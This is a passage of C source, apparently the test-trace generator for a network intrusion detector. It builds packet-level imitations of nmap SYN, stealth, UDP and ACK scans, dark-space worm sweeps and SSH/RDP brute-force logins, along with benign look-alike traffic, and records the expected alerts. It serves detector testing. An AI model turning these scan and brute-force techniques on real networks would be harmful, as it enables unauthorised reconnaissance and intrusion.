		tcp_attempt(t, ts, e, 0, host(t, peers[i]), 30303, oc, rlpx, ARRAY_SIZE(rlpx), 2);
	}
	pick_addrs(t, peers, 15, POOL_PUB, 2, NULL, 0);
	for (unsigned i = 0; i < 15; i++) {
		int64_t ts = SEC(2) + i * MS(60);
		struct host *p = host(t, peers[i]);

		fill_random(t, b, sizeof(b));
		udp_emit(t, ts, e, 30303, p, 30303, b, sizeof(b), NULL);
		udp_emit(t, ts + path_rtt(p), p, 30303, e, 30303, b, 88, NULL);
	}
	max_action(tr, g, "watch");
	no_alert(tr, e);
	tr->exclusive = true;
}

/* nmap's probes: MSS-only SYNs, window 1024, one source port. */
static struct synstyle nmap_style(void)
{
	struct synstyle s = {.opts = SO_MSS, .win = 1024, .random_id = true, .no_df = true};

	return s;
}

static void sc_vertical_syn_scan(struct trace *t, struct truth *tr)
{
	static const uint16_t open[] = {22, 80, 135, 445, 3389};
	struct host *sc = Hs(t, "10.1.0.90", ST_LINUX);
	struct host *tg = Hs(t, "10.2.0.9", ST_WIN);
	struct synstyle sty = nmap_style();
	uint16_t sport = (uint16_t)rng_range(&t->rng, 40000, 65000);
	uint16_t ports[1000];
	struct tcp_fields tf;
	uint8_t tsdata[12] = {0};
	struct ip_fields f;
	struct pb l4, ip;
	uint16_t id = (uint16_t)rng_next(&t->rng);

	bg_office(t, tr, 0, SEC(5), BG2, ARRAY_SIZE(BG2));
	/* Host discovery: echo, SYN to 443, ACK to 80, timestamp request. */
	icmp_echo(t, SEC(1), sc, tg, false, id, 0, 0);
	icmp_echo(t, SEC(1) + 700, tg, sc, true, id, 0, 0);
	tcp_attempt_sty(t, SEC(1) + 20, sc, sport, tg, 443, OC_RST, NULL, 0, 0, &sty);
	memset(&tf, 0, sizeof(tf));
	tf.sport = sport;
	tf.dport = 80;
	tf.ack = (uint32_t)rng_next(&t->rng);
	tf.flags = TH_ACK;
	tf.win = 1024;
	tcp_emit(t, SEC(1) + 40, sc, tg, &tf, &sty, NULL);
	tf.sport = 80;
	tf.dport = sport;
	tf.seq = tf.ack;
	tf.ack = 0;
	tf.flags = TH_RST;
	tf.win = 0;
	tcp_emit(t, SEC(1) + 760, tg, sc, &tf, NULL, NULL);
	f = ipf(sc, tg, IPPROTO_ICMP);
	icmp_build(&l4, 13, 0, (uint32_t)id << 16 | 1, tsdata, 12);
	ip_packet(&ip, &f, &l4);
	emit_ip(t, SEC(1) + 60, &ip);
	f = ipf(tg, sc, IPPROTO_ICMP);
	icmp_build(&l4, 14, 0, (uint32_t)id << 16 | 1, tsdata, 12);
	ip_packet(&ip, &f, &l4);
	emit_ip(t, SEC(1) + 800, &ip);

	for (unsigned i = 0; i < 1000; i++)
		ports[i] = (uint16_t)(i + 1);
	ports[999] = 3389;
	shuffle_u16(t, ports, 1000);
	for (unsigned i = 0; i < 1000; i++) {
		bool is_open = false;

		for (size_t j = 0; j < ARRAY_SIZE(open); j++)
			is_open |= ports[i] == open[j];
		tcp_attempt_sty(t, MS(1500) + i * MS(1) + (int64_t)rng_range(&t->rng, 0, 400), sc,
				sport, tg, ports[i], is_open ? OC_OPEN_RST : OC_RST, NULL, 0, 0,
				&sty);
	}
	expect_not_before(expect(tr, sc, "vertical-scan", "contain"), SEC(1));
	max_action(tr, sc, "contain");
	no_alert(tr, tg);
	tr->exclusive = true;
}

static void sc_vertical_stealth(struct trace *t, struct truth *tr)
{
	static const uint8_t flags[3] = {TH_FIN, 0, TH_FIN | TH_PSH | TH_URG};
	static const uint16_t open[] = {22, 80};

	bg_office(t, tr, 0, SEC(12), BG2, ARRAY_SIZE(BG2));
	for (unsigned a = 0; a < 3; a++) {
		struct host *sc = host_as(t, a4(10, 1, 0, 91 + a), ST_LINUX);
		struct host *tg = host_as(t, a4(10, 2, 0, 12 + a), ST_LINUX);
		struct synstyle sty = nmap_style();
		uint16_t sport = (uint16_t)rng_range(&t->rng, 40000, 65000);
		uint16_t ports[200];
		int64_t start = SEC(2) + a * SEC(3);

		pick_ports(t, ports, 200, 1, 1024, open, ARRAY_SIZE(open));
		for (unsigned i = 0; i < 200; i++) {
			int64_t ts = start + i * MS(2) + (int64_t)rng_range(&t->rng, 0, 500);
			struct tcp_fields tf;
			bool is_open = ports[i] == 22 || ports[i] == 80;

			memset(&tf, 0, sizeof(tf));
			tf.sport = sport;
			tf.dport = ports[i];
			tf.seq = (uint32_t)rng_next(&t->rng);
			tf.flags = flags[a];
			tf.win = 1024;
			tcp_emit(t, ts, sc, tg, &tf, &sty, NULL);
			if (is_open) {
				/* open|filtered: nmap tries once more */
				tcp_emit(t, ts + SEC(1), sc, tg, &tf, &sty, NULL);
				continue;
			}
			tf.sport = ports[i];
			tf.dport = sport;
			tf.ack = tf.seq + (flags[a] & TH_FIN ? 1 : 0);
			tf.seq = 0;
			tf.flags = TH_RST | TH_ACK;
			tf.win = 0;
			tcp_emit(t, ts + path_rtt(tg), tg, sc, &tf, NULL, NULL);
		}
		expect_not_before(expect(tr, sc, "vertical-scan", "contain"), start);
		max_action(tr, sc, "contain");
		no_alert(tr, tg);
	}
	tr->exclusive = true;
}

/* nmap -sU: empty datagrams except where a payload makes a service answer;
 * closed ports answer ICMP port unreachable quoting the probe. */
static void udp_port_scan(struct trace *t, struct host *sc, struct host *tg, unsigned nports,
			  int64_t start, int64_t gap)
{
	static const uint16_t must[] = {53, 67, 69, 111, 123, 137, 161, 500, 514, 520, 1900};
	uint16_t ports[1000];
	uint16_t sport = (uint16_t)rng_range(&t->rng, 40000, 65000);
	/* SNMPv1 GetRequest, community "public", sysDescr.0 */
	static const char snmp[] =
		"\x30\x29\x02\x01\x00\x04\x06"
		"public"
		"\xa0\x1c\x02\x04\x1b\x4e\x61\x09\x02\x01\x00\x02\x01\x00"
		"\x30\x0e\x30\x0c\x06\x08\x2b\x06\x01\x02\x01\x01\x01\x00\x05\x00";
	uint8_t dnsq[64], ntp[48];
	size_t dnsl = dns_msg(dnsq, sizeof(dnsq), 0x1234, false, "version.bind", 16, NULL, 0);

	memset(ntp, 0, sizeof(ntp));
	ntp[0] = 0xe3;
	pick_ports(t, ports, nports, 1, 1024, must, ARRAY_SIZE(must));
	for (unsigned i = 0; i < nports; i++) {
		int64_t ts = start + i * gap + (int64_t)rng_range(&t->rng, 0, 1000);
		int64_t rtt = path_rtt(tg);
		const uint8_t *d = NULL;
		size_t dl = 0;
		struct pb probe;

		if (ports[i] == 53) {
			d = dnsq;
			dl = dnsl;
		} else if (ports[i] == 123) {
			d = ntp;
			dl = sizeof(ntp);
		} else if (ports[i] == 161) {
			d = (const uint8_t *)snmp;
			dl = sizeof(snmp) - 1;
		}
		udp_emit(t, ts, sc, sport, tg, ports[i], d, dl, &probe);
		if (ports[i] == 53) {
			uint8_t r[128];
			size_t rl = dns_msg(r, sizeof(r), 0x1234, true, "version.bind", 16,
					    (const uint8_t *)"\x04"
							     "9.18",
					    5);

			udp_emit(t, ts + rtt, tg, 53, sc, sport, r, rl, NULL);
		} else if (ports[i] == 123) {
			ntp[0] = 0x24;
			udp_emit(t, ts + rtt, tg, 123, sc, sport, ntp, sizeof(ntp), NULL);
			ntp[0] = 0xe3;
		} else if (ports[i] == 161) {
			udp_emit(t, ts + SEC(1), sc, sport, tg, 161, d, dl, NULL);
		} else {
			icmp_error(t, ts + rtt, tg, sc, 3, 3, &probe, 548);
		}
	}
}

static void sc_vertical_udp(struct trace *t, struct truth *tr)
{
	struct host *sc = Hs(t, "10.1.0.94", ST_LINUX);
	struct host *tg = Hs(t, "10.2.0.11", ST_LINUX);

	bg_office(t, tr, 0, SEC(6), BG2, ARRAY_SIZE(BG2));
	udp_port_scan(t, sc, tg, 300, SEC(2), MS(8));
	expect_not_before(expect(tr, sc, "vertical-scan", "contain"), SEC(2));
	max_action(tr, sc, "contain");
	no_alert(tr, tg);
	tr->exclusive = true;
}

static void sc_vertical_ipv6(struct trace *t, struct truth *tr)
{
	static const uint16_t open[] = {22, 80, 443};
	struct host *sc = Hs(t, "fd00:1::9", ST_LINUX);
	struct host *tg = Hs(t, "fd00:2::20", ST_LINUX);
	struct host *gw6 = Hs(t, "fd00:1::1", ST_LINUX);
	uint16_t sport = (uint16_t)rng_range(&t->rng, 40000, 65000);
	uint16_t ports[300];

	memcpy(gw6->mac, MAC_GW, 6);
	bg_office(t, tr, 0, SEC(5), BG2, ARRAY_SIZE(BG2));
	nd_exchange(t, MS(1900), sc, gw6);
	pick_ports(t, ports, 300, 1, 1024, open, ARRAY_SIZE(open));
	for (unsigned i = 0; i < 300; i++) {
		struct synstyle sty = nmap_style();
		bool is_open = ports[i] == 22 || ports[i] == 80 || ports[i] == 443;

		sty.hbh = i % 5 == 0;
		tcp_attempt_sty(t, SEC(2) + i * MS(3) + (int64_t)rng_range(&t->rng, 0, 800), sc,
				sport, tg, ports[i], is_open ? OC_OPEN_RST : OC_RST, NULL, 0, 0,
				&sty);
	}
	expect_not_before(expect(tr, sc, "vertical-scan", "contain"), SEC(2));
	max_action(tr, sc, "contain");
	no_alert(tr, tg);
	no_alert(tr, gw6);
	tr->exclusive = true;
}

/* ---- probes without SYN (issue 10) ---- */

/* One bare ACK probe (nmap -sA/-sW, hping3 -A: ACK alone, no options, no
 * payload, a random acknowledgment number), and, when answered, the reset
 * of the target (open and closed ports alike), whose sequence number is
 * the probe's ack (RFC 793); jittered, so that resets of probes sent close
 * together come back out of order. */
static void ack_probe(struct trace *t, int64_t ts, struct host *sc, uint16_t sport, struct host *tg,
		      uint16_t port, uint16_t win, bool answered, const struct synstyle *sty)
{
	struct tcp_fields tf;

	memset(&tf, 0, sizeof(tf));
	tf.sport = sport;
	tf.dport = port;
	tf.seq = (uint32_t)rng_next(&t->rng);
	tf.ack = (uint32_t)rng_next(&t->rng);
	tf.flags = TH_ACK;
	tf.win = win;
	tcp_emit(t, ts, sc, tg, &tf, sty, NULL);
	if (!answered)
		return;
	tf.sport = port;
	tf.dport = sport;
	tf.seq = tf.ack;
	tf.ack = 0;
	tf.flags = TH_RST;
	tf.win = 0;
	tcp_emit(t, ts + path_rtt(tg) + (int64_t)rng_range(&t->rng, 0, MS(2)), tg, sc, &tf, NULL,
		 NULL);
}

/* nmap -sA of ports 1-1000 of a host whose every port answers with a
 * reset (2 % of them lost: nmap asks again from its next source port);
 * nmap -sW of 200 ports of a filtered host (nothing answers; each probe
 * sent twice); hping3 -A sweeping tcp/80 over 60 internal addresses
 * (source port counting up), two in three answered. */
static void sc_ack_scan(struct trace *t, struct truth *tr)
{
	struct host *a = Hs(t, "10.1.0.140", ST_LINUX), *ta = Hs(t, "10.2.0.30", ST_WIN);
	struct host *b = Hs(t, "10.1.0.141", ST_LINUX), *tb = Hs(t, "10.2.0.31", ST_LINUX);
	struct host *c = Hs(t, "10.1.0.142", ST_LINUX);
	struct synstyle sty = nmap_style();
	uint16_t sport = (uint16_t)rng_range(&t->rng, 40000, 65000);
	uint16_t ports[1000];
	struct addr d[60];
	struct t_expect *e;

	bg_office(t, tr, 0, SEC(14), BG2, ARRAY_SIZE(BG2));
	for (unsigned i = 0; i < 1000; i++)
		ports[i] = (uint16_t)(i + 1);
	shuffle_u16(t, ports, 1000);
	for (unsigned i = 0; i < 1000; i++) {
		int64_t ts = SEC(2) + i * MS(1) + (int64_t)rng_range(&t->rng, 0, 400);
		bool lost = rng_pct(&t->rng, 2);

		ack_probe(t, ts, a, sport, ta, ports[i], 1024, !lost, &sty);
		if (lost)
			ack_probe(t, ts + SEC(1), a, (uint16_t)(sport + 1), ta, ports[i], 1024,
				  true, &sty);
	}
	e = expect(tr, a, "vertical-scan", "contain");
	expect_not_before(e, SEC(2));
	expect_not_after(e, SEC(3));
	max_action(tr, a, "contain");
	no_alert(tr, ta);

	sport = (uint16_t)rng_range(&t->rng, 40000, 65000);
	pick_ports(t, ports, 200, 1, 1024, NULL, 0);
	for (unsigned i = 0; i < 200; i++) {
		int64_t ts = SEC(5) + i * MS(2) + (int64_t)rng_range(&t->rng, 0, 500);

		ack_probe(t, ts, b, sport, tb, ports[i], 1024, false, &sty);
		ack_probe(t, ts + SEC(1), b, (uint16_t)(sport + 1), tb, ports[i], 1024, false,
			  &sty);
	}
	e = expect(tr, b, "vertical-scan", "contain");
	expect_not_before(e, SEC(5) + SEC(3)); /* silence: scan.timeout after the probes */
	max_action(tr, b, "contain");
	no_alert(tr, tb);

	sport = (uint16_t)rng_range(&t->rng, 1024, 60000);
	pick_addrs(t, d, 60, POOL_SRV, 1, NULL, 0);
	for (unsigned i = 0; i < 60; i++) {
		int64_t ts = SEC(9) + i * MS(50) + (int64_t)rng_range(&t->rng, 0, MS(20));
		struct host *tg = host_as(t, d[i], ST_LINUX);

		ack_probe(t, ts, c, (uint16_t)(sport + i), tg, 80, 64, i % 3 != 2, NULL);
		no_alert(tr, tg);
	}
	expect_not_before(expect(tr, c, "horizontal-scan", "watch"), SEC(9));
	max_action(tr, c, "watch");
	tr->exclusive = true;
}

/* A connection already under way when the capture starts (a restart of
 * the daemon): no handshake, sequence numbers anywhere. */
static void conn_midflow(struct trace *t, struct conn *k, struct host *c, struct host *s,
			 uint16_t dport)
{
	conn_init(t, k, c, 0, s, dport, NULL);
}

/* The server sends n segments of data from ts, the client ACKs every
 * second one (and the last); 2 % of the segments are lost on the way, and
 * the client then repeats its ACK (a duplicate ACK); jitter reorders
 * nearby packets.  Returns the time of the last ACK. */
static int64_t midflow_download(struct trace *t, int64_t ts, struct conn *k, unsigned n)
{
	static uint8_t data[1448];

	fill_random(t, data, sizeof(data));
	for (unsigned i = 0; i < n; i++) {
		int64_t at = ts + i * MS(2) + (int64_t)rng_range(&t->rng, 0, 600);

		if (rng_pct(&t->rng, 2)) {
			conn_seg(t, at + k->crtt, k, false, TH_ACK, NULL, 0, NULL);
			continue;
		}
		conn_seg(t, at, k, true, TH_ACK, data, sizeof(data), NULL);
		if (i % 2 == 1 || i == n - 1)
			conn_seg(t, at + k->crtt, k, false, TH_ACK, NULL, 0, NULL);
	}
	return ts + n * MS(2) + k->crtt;
}

/* Benign look-alikes of ACK probes, none of which may be flagged:
 *   - 10.1.0.150, a Windows client (no timestamps: bare ACKs) captured in
 *     the middle of 30 HTTPS downloads and of 24 passive FTP data
 *     connections to one internal server (24 ports of one destination);
 *   - 10.1.0.151, a Windows HTTPS server answering outside clients: three
 *     with 25 connections each, one request on each, which the server ACKs
 *     once before it answers (25 ephemeral ports of one destination, each
 *     with one bare ACK that nothing answers), and one uploading, whose
 *     handshake is in the trace;
 *   - 10.1.0.152, a Windows laptop waking from sleep: 40 stale connections
 *     to 25 servers on 443, each sending a keepalive (one byte), a TLS
 *     record or a bare ACK; the servers that forgot them reset them (two
 *     drop them silently), and the laptop reconnects;
 *   - 10.1.0.153, a Windows client whose 25 HTTPS connections and one SSH
 *     session go idle for 70 s (past every window, so their entries have
 *     expired), then each server pushes a little data and the client ACKs
 *     it, once, with no answer;
 *   - 10.1.0.154, whose address someone forges in a scan elsewhere: 300
 *     resets and SYN-ACKs from outside to its ports (backscatter). */
static void sc_ack_lookalikes(struct trace *t, struct truth *tr)
{
	static uint8_t buf[1448];
	struct host *w = Hs(t, "10.1.0.150", ST_WIN), *fs = Hs(t, "10.2.0.50", ST_LINUX);
	struct host *srv = Hs(t, "10.1.0.151", ST_WIN);
	struct host *lap = Hs(t, "10.1.0.152", ST_WIN);
	struct host *idle = Hs(t, "10.1.0.153", ST_WIN), *ssh = Hs(t, "10.2.0.40", ST_LINUX);
	struct host *bs = Hs(t, "10.1.0.154", ST_LINUX);
	struct addr d[40];
	struct conn ks[30];

	bg_office(t, tr, 0, SEC(80), BG2, ARRAY_SIZE(BG2));

	/* Downloads seen from mid-flow. */
	pick_addrs(t, d, 30, POOL_PUB, 2, NULL, 0);
	for (unsigned i = 0; i < 30; i++) {
		struct conn k;

		conn_midflow(t, &k, w, host_as(t, d[i], ST_LINUX), 443);
		midflow_download(t, (int64_t)rng_range(&t->rng, 0, MS(500)), &k,
				 rng_range(&t->rng, 50, 400));
	}
	for (unsigned i = 0; i < 24; i++) {
		struct conn k;

		conn_midflow(t, &k, w, fs, (uint16_t)(40000 + i * 7));
		midflow_download(t, MS(100) + (int64_t)rng_range(&t->rng, 0, MS(300)), &k,
				 rng_range(&t->rng, 100, 300));
	}
	no_alert(tr, w);
	no_alert(tr, fs);

	/* A server's side of uploads from outside. */
	for (unsigned c = 0; c < 4; c++) {
		struct host *cl = host_as(t, addr_rand_in(&t->rng, "198.51.100.0/24"), ST_LINUX);
		unsigned nconn = c < 3 ? 25 : 1;

		for (unsigned i = 0; i < nconn; i++) {
			struct conn k;
			int64_t ts = SEC(1) + (int64_t)rng_range(&t->rng, 0, MS(800));

			conn_init(t, &k, cl, 0, srv, 443, NULL);
			if (c == 3) {
				conn_syn(t, ts, &k, NULL);
				k.cseq++;
				conn_synack(t, ts + k.rtt, &k);
				k.sseq++;
				ts += k.rtt + k.crtt;
			}
			fill_random(t, buf, sizeof(buf));
			if (c < 3) {
				/* A request, the server's ACK, its answer. */
				conn_seg(t, ts, &k, false, TH_ACK | TH_PSH, buf, 300, NULL);
				conn_seg(t, ts + k.rtt, &k, true, TH_ACK, NULL, 0, NULL);
				conn_seg(t, ts + k.rtt + MS(30), &k, true, TH_ACK | TH_PSH, buf,
					 1200, NULL);
				continue;
			}
			for (unsigned j = 0; j < 30; j++) {
				int64_t at = ts + j * MS(3) + (int64_t)rng_range(&t->rng, 0, 900);

				conn_seg(t, at, &k, false, TH_ACK, buf, sizeof(buf), NULL);
				if (j % 2 == 1)
					conn_seg(t, at + k.rtt, &k, true, TH_ACK, NULL, 0, NULL);
			}
		}
		no_alert(tr, cl);
	}
	no_alert(tr, srv);

	/* The laptop wakes at 3 s. */
	pick_addrs(t, d, 25, POOL_PUB, 2, NULL, 0);
	for (unsigned i = 0; i < 40; i++) {
		struct host *s = host_as(t, d[i % 25], ST_LINUX);
		int64_t ts = SEC(3) + (int64_t)rng_range(&t->rng, 0, MS(300));
		unsigned kind = rng_range(&t->rng, 0, 9);
		struct tcp_fields tf;
		struct conn k;

		conn_midflow(t, &k, lap, s, 443);
		if (kind < 4) {
			/* A keepalive: one byte before the next sequence number. */
			k.cseq--;
			conn_seg(t, ts, &k, false, TH_ACK, (const uint8_t *)"", 1, NULL);
		} else if (kind < 8) {
			fill_random(t, buf, 90);
			conn_seg(t, ts, &k, false, TH_ACK | TH_PSH, buf, 90, NULL);
		} else {
			conn_seg(t, ts, &k, false, TH_ACK, NULL, 0, NULL);
		}
		if (i % 25 >= 23)
			continue; /* a firewall that forgot it drops it */
		memset(&tf, 0, sizeof(tf));
		tf.sport = 443;
		tf.dport = k.sport;
		tf.seq = k.sseq;
		tf.flags = TH_RST;
		tcp_emit(t, ts + k.rtt, s, lap, &tf, NULL, NULL);
		if (i < 25)
			tcp_attempt(t, ts + k.rtt + MS(40), lap, 0, s, 443, OC_OPEN, HTTPS,
				    ARRAY_SIZE(HTTPS), 0);
	}
	no_alert(tr, lap);

	/* Idle connections, whose entries expire. */
	pick_addrs(t, d, 25, POOL_PUB, 2, NULL, 0);
	for (unsigned i = 0; i < 25; i++) {
		int64_t ts = SEC(1) + i * MS(30) + (int64_t)rng_range(&t->rng, 0, MS(10));

		conn_init(t, &ks[i], idle, 0, host_as(t, d[i], ST_LINUX), 443, NULL);
		conn_syn(t, ts, &ks[i], NULL);
		ks[i].cseq++;
		conn_synack(t, ts + ks[i].rtt, &ks[i]);
		ks[i].sseq++;
		conn_seg(t, ts + ks[i].rtt + ks[i].crtt, &ks[i], false, TH_ACK, NULL, 0, NULL);
	}
	conn_init(t, &ks[25], idle, 0, ssh, 22, NULL);
	conn_syn(t, SEC(2), &ks[25], NULL);
	ks[25].cseq++;
	conn_synack(t, SEC(2) + ks[25].rtt, &ks[25]);
	ks[25].sseq++;
	conn_seg(t, SEC(2) + ks[25].rtt + ks[25].crtt, &ks[25], false, TH_ACK, NULL, 0, NULL);
	for (unsigned i = 0; i < 26; i++) {
		int64_t ts = SEC(72) + i * MS(40) + (int64_t)rng_range(&t->rng, 0, MS(30));

		fill_random(t, buf, 120);
		conn_seg(t, ts, &ks[i], true, TH_ACK | TH_PSH, buf, 120, NULL);
		conn_seg(t, ts + ks[i].crtt, &ks[i], false, TH_ACK, NULL, 0, NULL);
	}
	no_alert(tr, idle);
	no_alert(tr, ssh);

	/* Backscatter. */
	for (unsigned i = 0; i < 300; i++) {
		struct host *from = host_as(t, addr_rand_in(&t->rng, "203.0.113.0/24"), ST_LINUX);
		int64_t ts = SEC(4) + i * MS(20) + (int64_t)rng_range(&t->rng, 0, MS(15));
		struct tcp_fields tf;

		memset(&tf, 0, sizeof(tf));
		tf.sport = (uint16_t)(i % 3 ? 80 : 443);
		tf.dport = (uint16_t)rng_range(&t->rng, 1024, 65535);
		tf.seq = (uint32_t)rng_next(&t->rng);
		tf.ack = (uint32_t)rng_next(&t->rng);
		tf.flags = i % 3 == 0 ? (TH_SYN | TH_ACK) : i % 3 == 1 ? TH_RST : (TH_RST | TH_ACK);
		tf.win = tf.flags & TH_RST ? 0 : 65160;
		tcp_emit(t, ts, from, bs, &tf, NULL, NULL);
	}
	no_alert(tr, bs);
	tr->exclusive = true;
}

/* Eight refused first contacts to distinct addresses, 200 ms apart. */
static void refused_probes(struct trace *t, struct host *h, const uint16_t *ports, int64_t start)
{
	struct addr d[8];

	pick_addrs(t, d, 8, POOL_SRV, 1, NULL, 0);
	for (unsigned i = 0; i < 8; i++)
		tcp_attempt(t, start + i * MS(200), h, 0, host(t, d[i]), ports[i], OC_RST, NULL, 0,
			    0);
}

static void sc_trw_fast(struct trace *t, struct truth *tr)
{
	static const uint16_t ports[8] = {445, 8081, 445, 5555, 445, 9999, 445, 12345};
	struct host *h = Hs(t, "10.1.0.95", ST_WIN);

	bg_office(t, tr, 0, SEC(5), BG2, ARRAY_SIZE(BG2));
	refused_probes(t, h, ports, SEC(2));
	expect_not_before(expect(tr, h, "scan-trw", "contain"), SEC(2));
	max_action(tr, h, "contain");
	tr->exclusive = true;
}

static void sc_trw_low(struct trace *t, struct truth *tr)
{
	struct host *h = Hs(t, "10.1.0.97", ST_LINUX);
	uint16_t ports[8];

	for (unsigned i = 0; i < 8; i++)
		ports[i] = (uint16_t)rng_range(&t->rng, 10000, 60000);
	bg_office(t, tr, 0, SEC(5), BG2, ARRAY_SIZE(BG2));
	refused_probes(t, h, ports, SEC(2));
	expect_not_before(expect(tr, h, "scan-trw", "watch"), SEC(2));
	max_action(tr, h, "watch");
	tr->exclusive = true;
}

/* A sweep of 10.2.x.y:6379 (no rule's port) at about 100 probes/s whose
 * first probe goes into dark space; after it, two addresses in five are
 * dark, the others refuse.  Send times jitter and the resets come back
 * with each server's own delay, so they arrive out of send order.  The
 * walk must flag it by its fourth reset, not wait for the dark probes'
 * timeouts. */
static void sc_trw_dark_first(struct trace *t, struct truth *tr)
{
	struct host *h = Hs(t, "10.1.0.103", ST_LINUX);
	struct addr d[60];
	int64_t fourth = 0;
	unsigned refused = 0;
	struct t_expect *e;

	bg_office(t, tr, 0, SEC(6), BG2, ARRAY_SIZE(BG2));
	pick_addrs(t, d, 60, POOL_SRV, 1, NULL, 0);
	for (unsigned i = 0; i < 60; i++) {
		int64_t ts = SEC(2) + i * MS(10) + (int64_t)rng_range(&t->rng, 0, MS(4));
		bool dark = i == 0 || rng_pct(&t->rng, 40);
		int64_t end = tcp_attempt(t, ts, h, 0, host(t, d[i]), 6379,
					  dark ? OC_SILENT : OC_RST, NULL, 0, dark ? 1 : 0);

		if (!dark && ++refused == 4)
			fourth = end;
	}
	e = expect(tr, h, "scan-trw", "watch");
	expect_not_before(e, SEC(2));
	/* Reordered resets: the fourth in send order may not be the
	 * fourth to arrive, but by then four have. */
	expect_not_after(e, fourth + MS(1));
	max_action(tr, h, "watch");
	tr->exclusive = true;
}

/* A client of 40 servers on 443, one in four of them dead: the dead ones
 * time out 3 s after the successes sent after them are known.  Never
 * four failures in a row in send order: no alert. */
static void sc_trw_dead_servers(struct trace *t, struct truth *tr)
{
	static const char pattern[] = "SSDSSSDDSSSSDSSDSSSSDSDSSSDDSSSSSDSSSDSS";
	struct host *h = Hs(t, "10.1.0.104", ST_WIN);
	struct addr d[sizeof(pattern) - 1];

	bg_office(t, tr, 0, SEC(12), BG2, ARRAY_SIZE(BG2));
	pick_addrs(t, d, ARRAY_SIZE(d), POOL_PUB, 2, NULL, 0);
	for (unsigned i = 0; i < ARRAY_SIZE(d); i++) {
		int64_t ts = SEC(1) + i * MS(120) + (int64_t)rng_range(&t->rng, 0, MS(30));

		if (pattern[i] == 'D')
			tcp_attempt(t, ts, h, 0, host(t, d[i]), 443, OC_SILENT, NULL, 0, 2);
		else
			tcp_attempt(t, ts, h, 0, host(t, d[i]), 443, OC_OPEN, HTTPS,
				    ARRAY_SIZE(HTTPS), 0);
	}
	no_alert(tr, h);
	tr->exclusive = true;
}

/* A worm sweeping internal space where nobody lives (10.3.0.0/16, inside
 * the default protected 10/8) on tcp/8080, which no rule names, at about
 * 20 probes/s with jitter: no SYN is answered.  Beside it, a client whose
 * five internal servers are down tries each in turn (below the rule's 8;
 * the walk watches it),
 * and a host whose sweep of live internal hosts is refused (answered:
 * not dark).  dark_warmup is 0: the trace is shorter than ten minutes. */
static void sc_dark_sweep(struct trace *t, struct truth *tr)
{
	static const char *const BG[] = {"10.1.0.201", "10.1.0.202"};
	struct host *w = Hs(t, "10.1.0.105", ST_WIN);
	struct host *c = Hs(t, "10.1.0.106", ST_WIN);
	struct host *r = Hs(t, "10.1.0.107", ST_LINUX);
	struct t_expect *e;

	conf(tr, "scan: { dark_warmup = 0; };\n");
	bg_office(t, tr, 0, SEC(8), BG, ARRAY_SIZE(BG));
	for (unsigned i = 0; i < 40; i++) {
		struct addr a = a4(10, 3, (uint8_t)rng_range(&t->rng, 0, 255),
				   (uint8_t)rng_range(&t->rng, 1, 254));
		int64_t ts = SEC(1) + i * MS(50) + (int64_t)rng_range(&t->rng, 0, MS(20));

		tcp_attempt(t, ts, w, 0, host(t, a), 8080, OC_SILENT, NULL, 0, 1);
	}
	e = expect(tr, w, "dark-space", "contain");
	expect_not_before(e, SEC(1));
	max_action(tr, w, "contain");
	for (unsigned i = 0; i < 5; i++)
		tcp_attempt(t, SEC(1) + i * SEC(1), c, 0, host(t, a4(10, 4, 0, (uint8_t)(10 + i))),
			    443, OC_SILENT, NULL, 0, 2);
	/* The walk watches it (four failures in a row): no more. */
	forbid(tr, c, "dark-space");
	max_action(tr, c, "watch");
	for (unsigned i = 0; i < 30; i++)
		tcp_attempt(t, SEC(1) + i * MS(30), r, 0, host(t, a4(10, 1, 9, (uint8_t)(10 + i))),
			    8081, OC_RST, NULL, 0, 0);
	forbid(tr, r, "dark-space");
	max_action(tr, r, "watch");
	tr->exclusive = true;
}

/* ---- brute force against one server ---- */

/* One login over a connection of its own from c to s:port at ts: the
 * dialogue m, then the server closes it (after too many failures, as sshd
 * does at MaxAuthTries) or the client gives up.  lost_syn: its first SYN
 * is lost past the capture point and sent again.  Returns the last packet
 * time. */
static int64_t login(struct trace *t, int64_t ts, struct host *c, struct host *s, uint16_t port,
		     const struct msg *m, size_t nm, bool server_closes, bool lost_syn)
{
	struct conn k;
	int64_t first, second;

	conn_init(t, &k, c, 0, s, port, NULL);
	ts = conn_talk(t, ts, &k, m, nm, lost_syn);
	ts += MS(1) + (int64_t)rng_range(&t->rng, 0, MS(300));
	first = server_closes ? k.crtt : k.rtt;
	second = server_closes ? k.rtt : k.crtt;
	conn_seg(t, ts, &k, server_closes, TH_FIN | TH_ACK, NULL, 0, NULL);
	conn_seg(t, ts + first, &k, !server_closes, TH_FIN | TH_ACK, NULL, 0, NULL);
	conn_seg(t, ts + first + second, &k, server_closes, TH_ACK, NULL, 0, NULL);
	return ts + first + second;
}

/* SSH with password authentication, three tries refused (sizes as
 * OpenSSH 9 with curve25519 key exchange; encrypted after NEWKEYS). */
static const struct msg SSH_FAILED[] = {
	SRV("SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3\r\n"),
	CLI("SSH-2.0-libssh_0.10.4\r\n"),
	CLIN(1432),
	SRVN(1080),
	CLIN(48),
	SRVN(564),
	CLIN(84),
	SRVN(52),
	CLIN(100),
	SRVN(52),
	CLIN(100),
	SRVN(52),
	CLIN(100),
	SRVN(52),
};

/* RDP with NLA: X.224, TLS, CredSSP/NTLM, refused. */
static const struct msg RDP_FAILED[] = {
	CLIN(43), SRVN(19),  CLIN(310), SRVN(2600), CLIN(182),
	SRVN(51), CLIN(196), SRVN(310), CLIN(620),  SRVN(40),
};

/* SSH public-key login running one command (Ansible's mkdir/cleanup,
 * a monitoring check). */
static const struct msg SSH_COMMAND[] = {
	SRV("SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3\r\n"),
	CLI("SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3\r\n"),
	CLIN(1432),
	SRVN(1080),
	CLIN(48),
	SRVN(564),
	CLIN(720),
	SRVN(980),
	CLIN(200),
	SRVN(1400),
};

/* The same with a module of 42 KiB sent to the server (Ansible's put). */
static const struct msg SSH_PUT[] = {
	SRV("SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3\r\n"),
	CLI("SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3\r\n"),
	CLIN(1432),
	SRVN(1080),
	CLIN(48),
	SRVN(564),
	CLIN(720),
	SRVN(980),
	CLIN(14000),
	CLIN(14000),
	CLIN(14000),
	SRVN(400),
};

/* hydra-like SSH password guessing from 10.1.0.140 against one server:
 * four tasks in parallel, a new connection per three passwords, the
 * server closing most of them, now and then a SYN lost and sent again,
 * start times jittered; and an RDP brute force from a Windows host.  Each
